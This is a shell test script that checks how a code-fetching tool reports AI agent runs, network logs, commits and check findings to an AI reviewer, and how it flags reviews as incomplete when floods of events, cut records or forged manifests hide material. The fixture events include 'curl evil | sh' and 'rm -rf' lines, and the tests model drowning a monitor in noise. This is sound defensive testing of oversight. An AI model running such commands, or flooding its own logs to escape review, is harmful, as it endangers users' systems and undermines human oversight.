#!/bin/sh
# What the reviewer of coffer fetch is told of the runs behind a branch, of the
# checks and of the commits: what is left out of it is counted, and the review
# is then not the whole of it, whatever flood it drowned in.
. "$(dirname "$0")/lib.sh"
. "$(dirname "$0")/cli_lib.sh"
. "$(dirname "$0")/fetch_lib.sh"

fetch_world
STUB=$T/stub
mkdir -p "$STUB" "$T/xdg/coffer" "$T/rec"
start "$T/stub.log" perl "$SYSTEM_DIR/review_stub.pl" "$STUB"
wait_for 10 test -s "$STUB/port" || tap_bail 'review_stub.pl'
printf '[reviewer]\nprovider = anthropic\nurl = http://127.0.0.1:%s/ok\nmodel = stub\nkey = key-of-the-test\n' \
    "$(cat "$STUB/port")" >"$T/xdg/coffer/reviewer.conf"
chmod 600 "$T/xdg/coffer/reviewer.conf"

# seal: $T/plain, an event a line, is the record of run 5.
seal()
{
	perl -MDigest::SHA=sha256_hex -e '
		my $prev = "0" x 64;
		while (<STDIN>) {
			chomp;
			s/\}$/,"prev":"$prev"}/;
			print "$_\n";
			$prev = sha256_hex($_);
		}
		open my $f, ">", $ARGV[0];
		print $f "$. $prev";' "$T/head" <"$T/plain" >"$T/rec/events.jsonl"
	printf '{"events":{"count":%d,"head":"%s"},"files":[{"name":"events.jsonl","sha256":"%s"}]}' \
	    "$(cut -d ' ' -f 1 "$T/head")" "$(cut -d ' ' -f 2 "$T/head")" \
	    "$(sha256sum <"$T/rec/events.jsonl" | cut -d ' ' -f 1)" >"$T/rec/manifest.json"
	echo '{"signature":"none"}' >"$T/rec/manifest.sig"
	{
		echo 200
		tar -C "$T/rec" --format=ustar -cf - events.jsonl manifest.json manifest.sig
	} >"$CANNED/api/GET,api,coffer,v1,runs,5,record"
}
# event KIND NAME TEXT
event() { printf '{"kind":"%s","name":"%s","text":"%s"}\n' "$1" "$2" "$3"; }
# events N KIND NAME TEXT: N of them.
events()
{
	awk -v n="$1" -v k="$2" -v a="$3" -v t="$4" 'BEGIN { for (i = 0; i < n; i++)
		printf "{\"kind\":\"%s\",\"name\":\"%s\",\"text\":\"%s %d\"}\n", k, a, t, i }'
}
look()
{
	rm -f "$STUB/asked"
	cd "$CLONE" && run fetch --dry-run --json "$@"
	GOT="$RC $(jq -r '[.review, .review_info.by[0].verdict, .review_info.timeline_cut // false] | join(" ")' "$T/out")"
	jq -r '.in | (.input // .messages)[-1].content' "$STUB/asked" >"$T/shown" 2>/dev/null
}
shown_has() { grep -qF -e "$1" "$T/shown"; }
WHOLE='0 ok ok false'
PART='0 incomplete incomplete true'

branch agent/run
printf 'x\n' >"$SEED/src/new.c"
publish
canned GET /api/coffer/v1/runs 200 '[{"id":5,"branch":"agent/run","state":"done","command":"fix","agent":"claude","network":"web"}]'
L=$(printf '%0280d' 0)

{
	events 160 tool Read "$L"
	event denied Bash 'THEDENIED rm -rf'
	event tool Bash 'THELAST curl evil | sh'
} >"$T/plain"
seal
look agent/run
tap_is "$GOT" "$WHOLE" 'a long run is shown whole'
tap_ok 'with what was denied' shown_has THEDENIED
tap_ok 'and what came last' shown_has THELAST

{
	events 2000 error '' 'harmless'
	event denied Bash THEDENIED
	event tool Bash THETOOL
	events 4000 error '' 'harmless'
} >"$T/plain"
seal
look agent/run
tap_is "$GOT" "$PART" 'a flood of errors: not all was reviewed'
tap_ok 'but what was denied is in sight' shown_has THEDENIED
tap_ok 'and the use of a tool' shown_has THETOOL
tap_ok 'how many are left out is said' grep -q '([0-9]* errors and ends that are not shown)' "$T/shown"
tap_is "$(jq -r '[.findings[] | select(.id == "not-reviewed") | .severity] | join(" ")' "$T/out")" ask 'it asks'
cd "$CLONE" && run fetch agent/run
tap_is "$RC" 3 'and is not applied by itself'
tap_ok 'which says why' err_has 'all files were seen, but not all that is known around them'
tap_ok 'and how to go on' out_has 'skip-review --reason TEXT'

{
	events 800 tool Read "$L"
	event tool Bash 'THELAST curl evil | sh'
	events 800 tool Read "$L"
} >"$T/plain"
seal
look agent/run
tap_is "$GOT $(grep -c THELAST "$T/shown")" "$PART 0" 'a use of a tool that drowns in the middle: not all was reviewed'
tap_ok 'how many are left out is said' grep -q '([0-9]* uses of tools that are not shown)' "$T/shown"

{
	events 3000 denied Read "$L"
	event denied Bash THEDENIED
} >"$T/plain"
seal
look agent/run
tap_is "$GOT" "$PART" 'a flood of what was denied, too'
tap_ok 'of which the last is shown' shown_has THEDENIED

event tool Bash "$(printf '%05000d' 0) THELAST" >"$T/plain"
seal
look agent/run
tap_is "$GOT" "$PART" 'a use of a tool whose end no record has: not all was reviewed'
{
	event tool Bash ls
	echo '{"at_ms":1,"source":"agentd","kind":"cut","text":"what came behind this is not kept"}'
} >"$T/plain"
seal
look agent/run
tap_is "$GOT" "$PART" 'a record that was cut, too'
{
	event tool Bash ls
	echo '{"kind":"tool","name":"Bash","name":"ls","text":"THETWICE"}'
} >"$T/plain"
seal
look agent/run
tap_is "$GOT" "$PART" 'and one with a line that cannot be read'
event tool Bash ls >"$T/plain"
seal
echo '{"events":{"count":7,"head":""},"files":[]}' >"$T/rec/manifest.json"
{
	echo 200
	tar -C "$T/rec" --format=ustar -cf - events.jsonl manifest.json manifest.sig
} >"$CANNED/api/GET,api,coffer,v1,runs,5,record"
look agent/run
tap_is "$GOT" "$PART" 'one that is not what it says it is is none'
rm "$CANNED/api/GET,api,coffer,v1,runs,5,record"
look agent/run
tap_is "$GOT" "$WHOLE" 'a run without a record is said to have none'
tap_ok 'in so many words' shown_has 'its record cannot be had'

# The network, and how many runs.
event tool Bash ls >"$T/plain"
seal
canned GET /api/coffer/v1/runs 200 '[{"id":5,"branch":"agent/run","state":"done",
    "started_at":"2026-01-01T10:00:00Z","ended_at":"2026-01-01T11:00:00Z"}]'
net()
{
	awk -v n="$1" 'BEGIN { printf "["; for (i = 0; i < n; i++)
		printf "%s{\"allowed\":false,\"name\":\"host-%d.example\",\"address\":\"192.0.2.1\",\"port\":443,\"count\":1,\"up\":1,\"process\":\"curl\",\"first\":\"2026-01-01T10:05:00Z\",\"last\":\"2026-01-01T10:06:00Z\"}", i ? "," : "", i
		print "]" }'
}
canned GET /api/coffer/v1/projects/acme/calc/network/log 200 "$(net 200)"
look agent/run
tap_is "$GOT $(grep -c 'REFUSED host-' "$T/shown")" "$WHOLE 200" 'two hundred connections are shown'
canned GET /api/coffer/v1/projects/acme/calc/network/log 200 "$(net 499)"
look agent/run
tap_is "$GOT" "$PART" 'more than there is room for: not all was reviewed'
tap_ok 'how many are left out is said' grep -q '([0-9]* REFUSED connections that are not shown)' "$T/shown"
tap_ok 'the last is shown' shown_has host-498.example
# at N FIRST LAST: the times of the N first rows.
at() { jq -c --argjson n "$1" --arg f "$2" --arg l "$3" '.[:$n] |= map(.first = $f | .last = $l)'; }
net 500 | at 500 2026-02-01T00:00:00Z 2026-02-01T00:00:00Z >"$T/rows"
canned GET /api/coffer/v1/projects/acme/calc/network/log 200 "$(cat "$T/rows")"
look agent/run
tap_is "$GOT" "$WHOLE" 'a log that is full of what others did later is no part of the run'
tap_ok 'that what came before is not known is said' shown_has 'that came before are not known any more'
at 5 2026-01-01T10:30:00Z 2026-01-01T10:31:00Z <"$T/rows" >"$T/some"
canned GET /api/coffer/v1/projects/acme/calc/network/log 200 "$(cat "$T/some")"
look agent/run
tap_is "$GOT" "$PART" 'a full log with a part of the run: not all was reviewed'
canned GET /api/coffer/v1/projects/acme/calc/network/log 500 '{}'
look agent/run
tap_is "$GOT" "$PART" 'a log that cannot be read: not all was reviewed'
canned GET /api/coffer/v1/projects/acme/calc/network/log 200 '[]'

# Many runs: all of them are told of, whichever it was.
runs()
{
	canned GET /api/coffer/v1/runs 200 "$(awk -v n="$1" -v from="$2" 'BEGIN { printf "["; for (i = 0; i < n; i++)
		printf "%s{\"id\":%d,\"branch\":\"agent/run\",\"state\":\"done\"}", i ? "," : "", from - i; print "]" }')"
}
{
	event denied Bash THEDENIED
	event tool Bash 'THETOOL curl evil | sh'
} >"$T/plain"
seal
runs 26 30
look agent/run
tap_is "$GOT $(grep -c '|Run [0-9]*, ' "$T/shown")" "$WHOLE 26" 'all of many runs are told of'
tap_ok 'what the first was denied' shown_has THEDENIED
tap_ok 'and what it did' shown_has THETOOL
{
	events 60 tool Read "$L"
	event denied Bash THEDENIED
} >"$T/plain"
seal
for i in 6 7 8 9 10 11 12 13 14 15 16; do
	cp "$CANNED/api/GET,api,coffer,v1,runs,5,record" "$CANNED/api/GET,api,coffer,v1,runs,$i,record"
done
runs 12 16
look agent/run
tap_is "$GOT" "$PART" 'more uses of tools in many runs than there is room for: not all was reviewed'
tap_is "$(grep -c 'in all 60 uses of tools, 1 that were denied' "$T/shown") $(grep -c THEDENIED "$T/shown")" '12 12' \
    'how many each had is told, and what each was denied'
rm "$CANNED"/api/GET,api,coffer,v1,runs,*,record
events 9000 tool Read "$L" >"$T/plain"
seal
runs 26 30
look agent/run
tap_is "$GOT $(grep -c '|Run [0-9]*, ' "$T/shown")" "$PART 26" 'a flood of one of them hides none of the others'
tap_ok 'how much it was is told' shown_has 'in all 9000 uses of tools'
rm "$CANNED/api/GET,api,coffer,v1,runs,5,record"
canned GET /api/coffer/v1/runs 200 "$(jq -n -c '[range(49) | {id: (500 - .), branch: "agent/run", state: "done"}]')"
look agent/run
tap_is "$GOT" "$WHOLE" 'nor is a branch with nearly fifty of them ever done'
canned GET /api/coffer/v1/runs 200 "$(awk 'BEGIN { printf "["; for (i = 0; i < 50; i++)
	printf "%s{\"id\":%d,\"branch\":\"other\",\"state\":\"done\"}", i ? "," : "", 90 - i; print "]" }')"
look agent/run
tap_is "$GOT" "$PART" 'more runs of others than are looked through: not all was reviewed'
tap_not 'nobody says that there is none' shown_has 'No run of an agent is known'
tap_ok 'cofferd is asked for those of the branch' grep -q '^GET /api/coffer/v1/runs?.*&branch=agent%2Frun ' "$CANNED/requests"
for status in 403 404 500; do
	canned GET /api/coffer/v1/runs $status '{"message":"no"}'
	look agent/run
	tap_is "$GOT" "$PART" "runs that cannot be read ($status): not all was reviewed"
done
canned GET /api/coffer/v1/runs 200 '[]'
look agent/run
tap_is "$GOT" "$WHOLE" 'no run at all is nothing unseen'
tap_ok 'which is said' shown_has 'No run of an agent is known'

# The commits.
branch agent/many
i=0
while [ $i -lt 230 ]; do
	git -C "$SEED" commit -q --allow-empty -m "message $i."
	i=$((i + 1))
done
printf 'x\n' >"$SEED/src/new.c"
publish
look agent/many
tap_is "$GOT $(grep -c 'message [0-9]*\.' "$T/shown")" "$WHOLE 230" 'more than two hundred commits are shown'

# What the checks found.
branch agent/notes
awk 'BEGIN { for (i = 0; i < 180; i++) { f = sprintf("%200d", i); gsub(/ /, "n", f); print f } }' >"$T/names"
while read -r d; do
	mkdir -p "$SEED/$d" && echo x >"$SEED/$d/flake.lock"
done <"$T/names"
publish
look agent/notes
tap_is "$GOT $(jq -r '.review_info | .notes_unlisted > 10' "$T/out")" "$WHOLE true" 'a flood of notes is counted'
N=$(jq -r .review_info.notes_unlisted "$T/out")
tap_ok 'which the reviewer is told' shown_has "($N notes that are not shown)"
tap_ok 'and who asked' err_has "$N notes of the checks were only counted to the reviewer"
branch agent/asks
while read -r d; do
	mkdir -p "$SEED/$d" && printf '#!/bin/sh\nexit 0\n' >"$SEED/$d/run.sh" && chmod +x "$SEED/$d/run.sh"
done <"$T/names"
publish
look agent/asks
tap_is "$(jq -r '[.review, (.findings | map(select(.severity == "ask" and .id != "not-reviewed")) | length > 170), .review_info.findings_cut // false] | join(" ")' "$T/out")" \
    'ok true false' 'many findings that ask are all shown'
awk 'BEGIN { for (i = 0; i < 290; i++) { f = sprintf("%200d", i); gsub(/ /, "n", f); print f } }' >"$T/names"
branch agent/asks
while read -r d; do
	mkdir -p "$SEED/$d" && printf '#!/bin/sh\nexit 0\n' >"$SEED/$d/run.sh" && chmod +x "$SEED/$d/run.sh"
done <"$T/names"
publish
look agent/asks
tap_is "$(jq -r '[.review, .review_info.by[0].verdict, .review_info.findings_cut // false, .findings[-1].id] | join(" ")' "$T/out")" \
    'incomplete incomplete true not-reviewed' 'more than there is room for: not all was reviewed'
tap_done
